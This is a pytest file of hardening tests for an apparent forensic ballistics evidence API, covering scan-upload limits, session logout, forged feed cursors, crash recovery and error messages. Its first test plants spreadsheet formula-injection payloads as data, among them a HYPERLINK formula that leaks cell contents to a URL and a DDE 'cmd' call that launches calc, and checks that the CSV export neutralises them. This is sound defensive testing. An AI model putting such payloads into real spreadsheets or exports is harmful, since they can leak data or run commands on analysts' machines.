"""Issue 12 (hardening): what a hostile or careless user broke. Each test failed on main at 7dd266b."""
from __future__ import annotations

import csv
import io
import re

import numpy as np
import pytest
from api_helpers import run_jobs, upload


def _confirm_pair(client, examiner, x: int, y: int) -> dict:
    for it in client.get(f"/v1/exhibits/{x}/candidates", headers=examiner).json()["items"]:
        if it["candidate"]["id"] == y:
            r = client.post(f"/v1/candidates/{it['id']}/review", headers=examiner, json={"decision": "confirmed"})
            assert r.status_code == 201, r.text
            return it
    raise AssertionError(f"no candidate between {x} and {y}")


# --------------------------------------------------------------------------- 1. CSV formula injection
def test_i2_csv_export_neutralises_formulas_and_keeps_numbers(client, examiner, intel, scans):
    from test_csv import assert_no_formula  # tests/ is on sys.path (its conftest.py)

    hostile = dict(case_number='=HYPERLINK("http://x/?"&A1,"click")', agency="@SUM(1+1)",
                   place_text="+cmd|' /C calc'!A0", lat=-33.9, lon=-151.2)
    a1 = upload(client, examiner, scans["a1"], name="a1.x3p", exhibit_ref="@SUM(1+1)", **hostile)
    a2 = upload(client, examiner, scans["a2"], name="a2.x3p", exhibit_ref="-2+3+cmd|' /C calc'!A0",
                case_number="-1+1", role="test_fire", firearm_serial="=1+1")
    assert a1.status_code == 201 and a2.status_code == 201, (a1.text, a2.text)
    run_jobs(client)
    _confirm_pair(client, examiner, a1.json()["id"], a2.json()["id"])
    r = client.get("/v1/export/i2.csv", headers=intel)
    assert r.status_code == 200
    assert_no_formula(r.text)
    rows = list(csv.DictReader(io.StringIO(r.text)))
    hit = next(x for x in rows if x["link_type"] == "ballistic_hit")
    ends = {hit["from_case"], hit["to_case"]}
    assert ends == {"'" + hostile["case_number"], "'-1+1"}
    side = "from" if hit["from_case"].startswith("'=") else "to"
    assert hit[f"{side}_agency"] == "'@SUM(1+1)" and hit[f"{side}_place"] == "'+cmd|' /C calc'!A0"
    # numbers stay numbers: a negative latitude is the number, not text
    assert hit[f"{side}_lat"] == "-33.9" and hit[f"{side}_lon"] == "-151.2"
    assert float(hit["score"]) > 0 and int(hit["cmc_count"]) >= 0
    tf = next(x for x in rows if x["link_type"] == "test_fired_from")
    assert tf["to_id"] == "FIREARM-=1+1"
    assert tf["to_firearm_serial"] == "'=1+1"


# --------------------------------------------------------------------------- 2. memory blow-up, degenerate scans
@pytest.fixture(scope="module")
def zero_7900(tmp_path_factory):
    from api_helpers import constant_grid_x3p

    return constant_grid_x3p(tmp_path_factory.mktemp("hostile") / "zeros.x3p", 7900, 7900).read_bytes()


def _nothing_stored(client, settings, examiner, n_exhibits: int = 0) -> None:
    assert client.get("/v1/exhibits", headers=examiner).json()["total"] == n_exhibits
    assert [p for p in (settings.evidence_dir / "originals").rglob("*") if p.is_file()] == []
    assert list((settings.evidence_dir / "tmp").iterdir()) == []


def test_zero_grid_x3p_is_refused_from_its_header_without_decompressing(client, examiner, settings, zero_7900,
                                                                         monkeypatch):
    """486 KB declaring 7900 x 7900 float64 zeros: 413 before the point data is decompressed."""
    import ballistic.io.x3p as bio

    assert len(zero_7900) < 600_000
    members = []
    real = bio._read_member
    monkeypatch.setattr(bio, "_read_member", lambda zf, info, label: members.append(info.filename)
                        or real(zf, info, label))
    r = upload(client, examiner, zero_7900, name="zeros.x3p")
    assert r.status_code == 413, r.text
    detail = r.json()["detail"]
    assert detail.startswith("file too large for this service") and "at most" in detail
    assert "pass max_points" not in detail  # not the library's advice to a programmer
    assert members == ["main.xml"]          # the 499 MB of point data were never inflated
    _nothing_stored(client, settings, examiner)


def _x3p(heights, spacing_um=12.5):
    from api_helpers import x3p_bytes

    from ballistic.surface import Surface

    return x3p_bytes(Surface(np.asarray(heights, dtype=float), spacing_um, {}))


def test_degenerate_scans_are_refused_at_upload_with_a_reason(client, examiner, settings, tmp_path):
    from api_helpers import constant_grid_x3p

    rng = np.random.default_rng(0)
    few = np.full((200, 200), np.nan)
    few[rng.integers(0, 200, 50), rng.integers(0, 200, 50)] = rng.normal(size=50)
    cases = {
        "zeros": (constant_grid_x3p(tmp_path / "z.x3p", 300, 300).read_bytes(), 422, "the scan is flat"),
        "constant": (constant_grid_x3p(tmp_path / "c.x3p", 300, 300, value=17.5).read_bytes(), 422, "flat"),
        "all missing": (constant_grid_x3p(tmp_path / "n.x3p", 300, 300, value=np.nan).read_bytes(), 422,
                        "no measured points"),
        "too few points": (_x3p(few), 422, "too few measured points"),
        # 1e-12 m per point: a unit error, not a scan
        "absurd spacing": (_x3p(rng.normal(size=(100, 100)), spacing_um=1e-6), 422, "implausible pixel spacing"),
        # 90 um per point over 1000 x 1000: the job would resample it to 14400 x 14400 at 6.25 um
        "coarse grid that grows": (_x3p(rng.normal(size=(1000, 1000)), spacing_um=90.0), 413,
                                   "file too large for this service"),
    }
    for name, (data, code, reason) in cases.items():
        r = upload(client, examiner, data, name=f"{name}.x3p", exhibit_ref=name)
        assert r.status_code == code, (name, r.text)
        assert reason in r.json()["detail"], (name, r.json())
    _nothing_stored(client, settings, examiner)
    # a genuine scan still goes through
    assert upload(client, examiner, _x3p(rng.normal(size=(100, 100))), name="ok.x3p").status_code == 201


def test_the_job_memory_budget_bounds_what_is_opened(tmp_path, scans):
    from api_helpers import make_settings, new_key
    from fastapi.testclient import TestClient

    from api.limits import max_scan_points
    from api.main import create_app

    s = make_settings(tmp_path, job_memory_budget_mb=64)  # 64 MiB / (8 B x 16 copies) = 524288 points
    assert max_scan_points(s) == 524288
    with TestClient(create_app(s)) as c:
        ex = new_key(c, "examiner")
        assert upload(c, ex, scans["a1"], name="a1.x3p").status_code == 201  # 160 x 160
        big = _x3p(np.random.default_rng(1).normal(size=(800, 800)))          # 640 000 points
        r = upload(c, ex, big, name="big.x3p")
        assert r.status_code == 413 and "at most 524,288 points" in r.json()["detail"], r.text


def test_job_spacing_is_the_preprocessing_output_spacing():
    import inspect

    from ballistic.cartridge.image2d import preprocess_image
    from ballistic.cartridge.breech_face import preprocess_cartridge

    from api.limits import JOB_SPACING_UM

    assert inspect.signature(preprocess_cartridge).parameters["spacing_um"].default == JOB_SPACING_UM
    assert inspect.signature(preprocess_image).parameters["output_spacing_um"].default == JOB_SPACING_UM


# --------------------------------------------------------------------------- 7. messages for HTTP users
_PROGRAMMER = re.compile(r"\b(?:pass|raise|lower)\s+[a-z]+_[a-z_]+|[a-z]+_[a-z_]+=|Error:")


def test_upload_errors_speak_to_the_user_not_to_a_library_caller(tmp_path, scans):
    import zipfile

    from api_helpers import make_settings, new_key
    from fastapi.testclient import TestClient

    from api.main import create_app

    s = make_settings(tmp_path, max_upload_bytes=400_000, max_pixels=30_000)
    bad_md5 = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(scans["b1"])) as z, zipfile.ZipFile(bad_md5, "w") as out:
        for i in z.infolist():
            data = z.read(i)
            out.writestr(i, data[:-8] + b"\0" * 8 if i.filename.endswith("data.bin") else data)
    with TestClient(create_app(s)) as c:
        ex = new_key(c, "examiner")
        expect = {
            "wide.x3p": (_x3p(np.random.default_rng(2).normal(size=(150, 210))), 413,
                         "file too large for this service: the scan is a 210 x 150 grid (31,500 points)"),
            "big.x3p": (scans["b1"] + b"\0" * 400_000, 413, "file too large for this service: uploads are limited"),
            "altered.x3p": (bad_md5.getvalue(), 422, "the file is damaged or was altered after export"),
        }
        for name, (data, code, start) in expect.items():
            r = upload(c, ex, data, name=name)
            detail = r.json()["detail"]
            assert r.status_code == code and detail.startswith(start), (name, r.text)
            assert not _PROGRAMMER.search(detail), (name, detail)
            assert "upload-" not in detail  # the staging file's name never shows


def test_job_failures_are_stored_in_words_for_the_user(client, examiner, scans, monkeypatch):
    from api_helpers import ADMIN

    from api.index import DescriptorSpace
    from ballistic.retrieval.descriptor import breech_face_descriptor

    # the library's own DescriptorError ("... raise r_max_um (now 2000.0 um) or lower min_valid ...")
    monkeypatch.setattr(DescriptorSpace, "describe",
                        lambda self, surface: breech_face_descriptor(surface, min_valid=1.1))
    r = upload(client, examiner, scans["a1"], name="a1.x3p")
    run_jobs(client)
    job = client.get(f"/v1/jobs/{r.json()['job']['id']}", headers=examiner).json()
    assert job["status"] == "failed"
    assert job["error"].startswith("scan area not recognised"), job["error"]
    assert "r_max_um" not in job["error"] and not _PROGRAMMER.search(job["error"])
    # the library's message is kept for whoever maintains the service: in the audit row
    rows = client.get("/v1/audit", headers=ADMIN).json()["items"]
    failed = next(x for x in rows if x["action"] == "job.failed")
    assert "raise r_max_um" in failed["detail"] and "scan area not recognised" in failed["detail"]


def test_plain_drops_programmer_advice():
    from api.errors import plain

    assert plain("find_breech_face: aperture and margins leave no breech-face annulus; lower edge_margin_um / "
                 "aperture_margin_um or check the scan") == "aperture and margins leave no breech-face annulus"
    assert plain("'upload-0123456789abcdef' has SizeZ=2 layers; only single-layer surfaces (SizeZ=1) are "
                 "supported - export one layer per file", "x.x3p") == \
        "'x.x3p' has SizeZ=2 layers; only single-layer surfaces (SizeZ=1) are supported; export one layer per file"
    assert plain("point data altered (or pass verify_md5=False to read it anyway at your own risk)") == \
        "point data altered"


# --------------------------------------------------------------------------- 3. logout ends the session
def _csrf(html: str) -> str:
    return re.search(r'name="csrf_token" value="([^"]+)"', html).group(1)


def _web_login(client, headers) -> str:
    from api.web import auth

    r = client.post("/web/login", data={"api_key": headers["X-API-Key"],
                                        "csrf_token": _csrf(client.get("/web/login").text)}, follow_redirects=False)
    assert r.status_code == 303, r.text
    return client.cookies.get(auth.SESSION_COOKIE)


def test_logout_invalidates_the_session_on_the_server(client, examiner):
    from api_helpers import ADMIN

    from api.web import auth

    from fastapi.testclient import TestClient

    other = TestClient(client.app)  # a second browser of the same key (same app, already started)
    _web_login(other, examiner)
    saved = _web_login(client, examiner)
    page = client.get("/web/exhibits")
    assert page.status_code == 200
    r = client.post("/web/logout", data={"csrf_token": _csrf(page.text)}, follow_redirects=False)
    assert r.status_code == 303
    # the cookie saved before the logout (a copy, another tab, a stolen one) no longer opens anything
    client.cookies.set(auth.SESSION_COOKIE, saved)
    r = client.get("/web/exhibits", follow_redirects=False)
    assert r.status_code == 303 and r.headers["location"].startswith("/web/login")
    # only that session ended: the other browser's session still works, and a new login works
    assert other.get("/web/exhibits", follow_redirects=False).status_code == 200
    client.cookies.clear()
    _web_login(client, examiner)
    assert client.get("/web/exhibits", follow_redirects=False).status_code == 200
    assert any(e["action"] == "web.logout" for e in client.get("/v1/audit", headers=ADMIN).json()["items"])


# --------------------------------------------------------------------------- 4. feed cursors never issued
def test_feed_refuses_cursors_it_never_issued_and_valid_cursors_see_new_hits(client, examiner, intel, scans):
    import base64

    def cursor(text: str) -> str:
        return base64.urlsafe_b64encode(text.encode()).decode().rstrip("=")

    ids = {}
    for n in ("a1", "a2", "a3"):
        ids[n] = upload(client, examiner, scans[n], name=f"{n}.x3p", exhibit_ref=n).json()["id"]
    run_jobs(client)
    empty = client.get("/v1/hits/feed", headers=intel).json()  # the empty feed's cursor is a valid one
    for bad in (cursor("hit:999999"), cursor("hit:1"), "garbage!", cursor("job:0"), cursor("hit:-1")):
        r = client.get("/v1/hits/feed", headers=intel, params={"after": bad})
        assert r.status_code == 400, (bad, r.text)
        assert "cursor" in r.json()["detail"]
    assert "never issued" in client.get("/v1/hits/feed", headers=intel,
                                        params={"after": cursor("hit:999999")}).json()["detail"]
    # a client holding a cursor it was given sees every hit confirmed after it
    _confirm_pair(client, examiner, ids["a1"], ids["a2"])
    got = client.get("/v1/hits/feed", headers=intel, params={"after": empty["next_cursor"]}).json()
    assert len(got["items"]) == 1
    held = got["next_cursor"]
    idle = client.get("/v1/hits/feed", headers=intel, params={"after": held})
    assert idle.status_code == 200 and idle.json()["items"] == [] and idle.json()["next_cursor"] == held
    _confirm_pair(client, examiner, ids["a2"], ids["a3"])
    nxt = client.get("/v1/hits/feed", headers=intel, params={"after": held}).json()
    assert [i["kind"] for i in nxt["items"]] == ["hit"] and nxt["next_cursor"] != held
    # the old hit:1 cursor is valid now that event 1 exists
    assert client.get("/v1/hits/feed", headers=intel, params={"after": cursor("hit:1")}).status_code == 200


# --------------------------------------------------------------------------- 5. orphan evidence after a crash
def test_orphan_originals_are_quarantined_counted_reported_and_audited_at_start_up(tmp_path, scans):
    """The state a kill -9 between writing an original and the database commit of its upload leaves: a file
    in originals/ that no exhibit or land row names, no audit entry. Start-up quarantines it."""
    import hashlib

    from api_helpers import ADMIN, make_settings, new_key
    from fastapi.testclient import TestClient

    from api.main import create_app

    s = make_settings(tmp_path)
    with TestClient(create_app(s)) as c:
        ex = new_key(c, "examiner")
        kept = upload(c, ex, scans["a1"], name="a1.x3p").json()
        bullet = dict(case_number="B-1", exhibit_ref="bullet-1", exhibit_type="bullet")
        assert upload(c, ex, scans["c1"], name="l1.x3p", land_index=1, **bullet).status_code == 201
        assert upload(c, ex, scans["b2"], name="l2.x3p", land_index=2, **bullet).status_code == 201
        assert c.get("/v1/status", headers=ADMIN).json()["startup"]["orphan_originals"] == {"quarantined": 0}
    # the crash state: the upload's file is in the originals tree, its database transaction never committed
    orphan = hashlib.sha256(scans["b1"]).hexdigest()
    store = c.app.state.runtime.store
    path = store.original_path(orphan)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(scans["b1"])
    path.chmod(0o444)

    with TestClient(create_app(s)) as c:
        rep = c.get("/v1/status", headers=ADMIN).json()["startup"]["orphan_originals"]
        assert rep["quarantined"] == 1 and rep["files"][0]["sha256"] == orphan
        assert rep["files"][0]["size"] == len(scans["b1"])
        assert not path.exists() and (s.evidence_dir / "quarantine" / orphan).read_bytes() == scans["b1"]
        log = c.get("/v1/audit", headers=ADMIN).json()["items"]
        q = [e for e in log if e["action"] == "evidence.quarantine"]
        assert len(q) == 1 and q[0]["resource_id"] == orphan and q[0]["actor"] == "system:startup"
        assert c.get("/v1/audit/verify", headers=ADMIN).json()["ok"]
        # what the database names is untouched: the exhibit and both lands of the bullet
        originals = sorted(p.name for p in (s.evidence_dir / "originals").rglob("*") if p.is_file())
        assert originals == sorted(hashlib.sha256(scans[n]).hexdigest() for n in ("a1", "c1", "b2"))
        ex = new_key(c, "examiner")
        assert c.get(f"/v1/exhibits/{kept['id']}/original", headers=ex).content == scans["a1"]
        # the file can be submitted again (and is then stored and acknowledged normally)
        assert upload(c, ex, scans["b1"], name="b1.x3p").status_code == 201
    with TestClient(create_app(s)) as c:  # nothing left to reconcile
        assert c.get("/v1/status", headers=ADMIN).json()["startup"]["orphan_originals"] == {"quarantined": 0}


# --------------------------------------------------------------------------- 6. 422 bodies do not echo huge inputs
def test_validation_errors_do_not_echo_huge_inputs(client, examiner, scans):
    from api_helpers import ADMIN

    huge = "A" * 1_000_000
    # a form field of an upload, a JSON body field, a whole JSON body (model-level error), a query parameter
    r1 = upload(client, examiner, scans["a1"], name="a1.x3p", place_text=huge)
    r2 = client.post("/v1/keys", headers=ADMIN, json={"name": huge, "scope": "examiner"})
    r3 = client.post("/v1/keys", headers=ADMIN, json={"pad": huge, "also": [huge] * 3})
    r4 = client.get("/v1/exhibits", headers=examiner, params={"case_number": "x" * 50_000})
    r5 = upload(client, examiner, scans["a1"], name="a1.x3p", lat="1", place_text=huge)  # lat without lon
    for r in (r1, r2, r3, r4, r5):
        assert r.status_code == 422, r.text[:300]
        assert len(r.content) < 4000, len(r.content)
        errs = r.json()["detail"]
        assert errs and all("loc" in e and "msg" in e for e in errs)  # still FastAPI's error list
    # the echoed value says what it was, shortened
    e1 = next(e for e in r1.json()["detail"] if e["loc"][-1] == "place_text")
    assert e1["input"].startswith("AAAA") and "1000000 characters" in e1["input"]
    assert client.get("/v1/health").status_code == 200
